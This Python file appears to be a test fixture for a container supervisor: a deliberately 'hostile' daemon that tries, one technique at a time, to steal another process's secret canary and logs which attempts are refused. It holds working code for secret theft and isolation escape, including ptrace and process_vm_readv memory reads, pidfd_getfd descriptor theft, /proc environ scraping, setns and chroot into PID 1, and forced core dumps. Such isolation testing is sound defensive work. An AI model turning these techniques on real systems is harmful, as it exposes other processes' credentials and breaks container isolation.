"""A daemon that was taken over and looks for the secret of another: everything it can try, one after the other.

hostile.py REPORT --private FILE [--setuid-cat FILE] [--gate FILE] [--user-namespace]

It waits for GATE, then attacks the supervisor and egress, which it finds in status.json. What it looks for is
`sesame-` and 32 hexadecimal digits. REPORT gets, for each attempt, why it was refused and what it found:

    {"environ of egress": {"refused": "EACCES", "found": []}, ...}

Each attempt has a process of its own, so that one cannot spoil the next. What would change the machine outside of the
container (core_pattern, modules, devices) is not tried, only asked for in ways that have no effect.
"""

import argparse
import ctypes
import errno
import glob
import json
import os
import re
import resource
import signal
import stat
import subprocess
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

CANARY = re.compile(rb"sesame-[0-9a-f]{32}")
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
MS_BIND = 4096
PIDFD_GETFD = 438
PERF_EVENT_OPEN, BPF = {"x86_64": (298, 321), "aarch64": (241, 280)}.get(os.uname().machine, (-1, -1))
ENV_START, ENV_END = 47, 48  # of /proc/PID/stat, counted after the name; 0 for those who may not trace it

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long

Attempt = Callable[[], bytes]


def checked(result: int) -> int:
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def read(path: str) -> bytes:
    """What is there now; a pipe is not waited for."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 1 << 20)
    except BlockingIOError:
        return b""
    finally:
        os.close(fd)


def mem(pid: int) -> bytes:
    seen = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                seen += CANARY.findall(os.pread(memory.fileno(), end - start, start))
            except (OSError, OverflowError):
                continue  # [vvar], or a hole
    return b" ".join(seen)


def fd(pid: int) -> bytes:
    """Its descriptors, without asking for the list; the last refusal if all are refused."""
    seen, refusal = [], OSError(errno.ENOENT, "no descriptor")
    for number in range(12):
        try:
            seen.append(read(f"/proc/{pid}/fd/{number}"))
        except OSError as error:
            if error.errno != errno.ENOENT:
                refusal = error
    if not seen:
        raise refusal
    return b"\n".join(seen)


def env_area(pid: int) -> tuple[int, int]:
    fields = Path(f"/proc/{pid}/stat").read_bytes().rpartition(b") ")[2].split()
    start, end = int(fields[ENV_START]), int(fields[ENV_END])
    return (start, end) if start else (0x400000, 0x401000)


def ptrace(pid: int) -> bytes:
    checked(libc.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0x40000000)  # __WALL
    start, end = env_area(pid)
    words = [libc.ptrace(PTRACE_PEEKDATA, pid, address, None) for address in range(start & ~7, end, 8)]
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return b"".join((word & (1 << 64) - 1).to_bytes(8, "little") for word in words)


def process_vm_readv(pid: int) -> bytes:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    start, end = env_area(pid)
    buffer = ctypes.create_string_buffer(end - start)
    here, there = Vector(ctypes.addressof(buffer), end - start), Vector(start, end - start)
    checked(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return buffer.raw


def pidfd_getfd(pid: int) -> bytes:
    handle, seen, refusal = os.pidfd_open(pid), [], OSError(errno.EBADF, "no descriptor")
    for number in range(3, 12):
        try:
            stolen = checked(libc.syscall(PIDFD_GETFD, handle, number, 0))
            seen.append(os.pread(stolen, 1 << 16, 0))
        except OSError as error:
            if error.errno not in (errno.EBADF, errno.ESPIPE, errno.EINVAL):
                refusal = error
    if not seen:
        raise refusal
    return b"\n".join(seen)


def perf_event_open(pid: int) -> bytes:
    attributes = (ctypes.c_uint64 * 16)(1 | 128 << 32)  # PERF_TYPE_SOFTWARE; what a CPU clock counts
    checked(libc.syscall(PERF_EVENT_OPEN, attributes, pid, -1, -1, 0))
    return b""


def bpf() -> bytes:
    array_of_one = (ctypes.c_uint32 * 32)(2, 4, 8, 1)
    checked(libc.syscall(BPF, 0, array_of_one, 128))
    return b""


def mknod() -> bytes:
    path = f"{options.report}.null"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))
    os.unlink(path)
    return b""


def loot() -> bytes:
    """What there is to be read by name; for after a step that should have given more rights."""
    seen = []
    for path in (*(f"/proc/{pid}/environ" for pid in targets.values()), options.private):
        try:
            seen.append(read(path))
        except OSError:
            continue
    return b"\n".join(seen)


def become(pid: int) -> bytes:
    owner = os.stat(f"/proc/{pid}")
    if owner.st_uid == os.geteuid():
        raise OSError(errno.EALREADY, "the same account")
    os.setresuid(owner.st_uid, owner.st_uid, owner.st_uid)
    return loot()


def mount() -> bytes:
    checked(libc.unshare(CLONE_NEWNS))
    checked(libc.mount(os.path.dirname(options.private).encode(), b"/mnt", None, MS_BIND, None))
    return read(f"/mnt/{os.path.basename(options.private)}")


def user_namespace() -> bytes:
    """Every capability, but only over what belongs to the new namespace."""
    checked(libc.unshare(CLONE_NEWUSER))
    return loot() + mount()


def enter_user_namespace() -> str:
    """Be in a user namespace of its own, with others that this opens, and root there; the capabilities then."""
    uid, gid = os.getuid(), os.getgid()
    checked(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET))
    try:
        Path("/proc/self/setgroups").write_text("deny")
        Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
        Path("/proc/self/gid_map").write_text(f"0 {gid} 1")
    except PermissionError:
        pass  # root outside needs SETFCAP to be root inside (Linux 5.12); it has all capabilities there nevertheless
    return Path("/proc/self/status").read_text().partition("CapEff:\t")[2].partition("\n")[0]


def chroot() -> bytes:
    os.chroot("/proc/1/root")
    return loot()


def setns() -> bytes:
    checked(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
    return loot()


def run_setuid() -> bytes:
    paths = [f"/proc/{pid}/environ" for pid in targets.values()]
    done = subprocess.run([options.setuid_cat, *paths, options.private], capture_output=True)
    if not done.stdout:
        raise OSError(errno.EACCES if b"denied" in done.stderr else errno.EINVAL, done.stderr.decode())
    return done.stdout


def core() -> bytes:
    """Make PID 1 dump core, and look at what lies where it would."""
    resource.prlimit(1, resource.RLIMIT_CORE, resource.prlimit(1, resource.RLIMIT_CORE)[1:] * 2)
    for number in (signal.SIGSEGV, signal.SIGABRT, signal.SIGQUIT, signal.SIGBUS, signal.SIGSYS):
        os.kill(1, number)
    return b"\n".join(map(read, (*glob.glob("core*"), *glob.glob("/core*"))))


def state() -> bytes:
    names = "SIDECAR_STATUS_FILE", "SIDECAR_EVENTS_FILE"
    return b"\n".join(read(os.environ[name]) for name in names)


def write_state() -> bytes:
    with open(os.path.join(os.path.dirname(os.environ["SIDECAR_STATUS_FILE"]), "mine"), "w"):
        return b""


def own_pipe() -> bytes:
    return read("/proc/self/fd/1") + read("/dev/stderr")


def restarts() -> int:
    status = json.loads(Path(os.environ["SIDECAR_STATUS_FILE"]).read_text())
    return sum(row["restarts"] for row in status["daemons"])


def storm() -> bytes:
    """Looks at every process during many restarts: between fork and exec a child is a copy of PID 1."""
    seen, turn = [], 0
    while turn < 300 or restarts() < 5:
        os.kill(1, (signal.SIGUSR1, signal.SIGHUP, signal.SIGUSR2)[turn % 3])
        for pid in set(filter(str.isdigit, os.listdir("/proc"))) - {str(os.getpid()), str(os.getppid())}:
            try:
                seen += CANARY.findall(read(f"/proc/{pid}/environ"))
            except OSError:
                continue
        turn += 1
    return b" ".join(seen)


def attempts() -> Iterator[tuple[str, Attempt]]:
    private_name = os.path.basename(options.private)
    yield "own environment", lambda: read("/proc/self/environ") + repr(os.environb).encode()
    for name, pid in targets.items():
        for path in ("environ", f"task/{pid}/environ", "maps", "auxv", f"cwd/{private_name}", f"root{options.private}"):
            yield f"{path.partition('/')[0]} of {name}", partial(read, f"/proc/{pid}/{path}")
        for look in (mem, fd, ptrace, process_vm_readv, pidfd_getfd, perf_event_open):
            yield f"{look.__name__} of {name}", partial(look, pid)
    yield "file of mode 0600", partial(read, options.private)
    yield "setuid to egress's account", partial(become, targets["egress"])
    yield "setuid program", run_setuid
    for way in (mount, user_namespace, chroot, setns, mknod, bpf, state, write_state, own_pipe, core, storm):
        yield way.__name__, way


def outcome(attempt: Attempt) -> dict[str, object]:
    """Tried in a process of its own."""
    result, report = os.pipe()
    pid = os.fork()
    if pid == 0:
        found: list[str] = []
        refused = ""
        try:
            found = sorted({match.decode() for match in CANARY.findall(attempt())})
        except OSError as error:
            refused = errno.errorcode.get(error.errno or 0, str(error))
        except Exception as error:
            refused = repr(error)
        os.write(report, json.dumps({"refused": refused, "found": found}).encode())
        os._exit(0)
    os.close(report)
    with open(result, "rb") as answer:
        outcome: dict[str, object] = json.load(answer)
    os.waitpid(pid, 0)
    return outcome


def find_targets() -> dict[str, int]:
    """The supervisor and egress, as status.json names them."""
    while True:
        try:
            status = json.loads(Path(os.environ["SIDECAR_STATUS_FILE"]).read_text())
            pids = {row["name"]: row["pid"] for row in status["daemons"]}
            if pids["egress"]:
                return {"supervisor": status["pid"], "egress": pids["egress"]}
        except FileNotFoundError:
            pass
        time.sleep(0.005)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("report")
    parser.add_argument("--private", required=True)
    parser.add_argument("--setuid-cat", default="/bin/false")
    parser.add_argument("--gate")
    parser.add_argument("--user-namespace", action="store_true")
    options = parser.parse_args()
    while options.gate and not os.path.exists(options.gate):
        time.sleep(0.005)
    targets = find_targets()
    results: dict[str, dict[str, object]] = {}
    if options.user_namespace:
        try:
            results["capabilities"] = {"refused": "", "found": [enter_user_namespace()]}
        except OSError as error:
            print(f"no user namespace: {error}", flush=True)
    results |= {name: outcome(attempt) for name, attempt in attempts()}
    for name, result in results.items():
        print(f"{name}: {result['refused'] or 'not refused'}, found {len(str(result['found'])) > 2}", flush=True)
    Path(f"{options.report}.new").write_text(json.dumps(results))
    os.rename(f"{options.report}.new", options.report)
    while True:
        signal.pause()
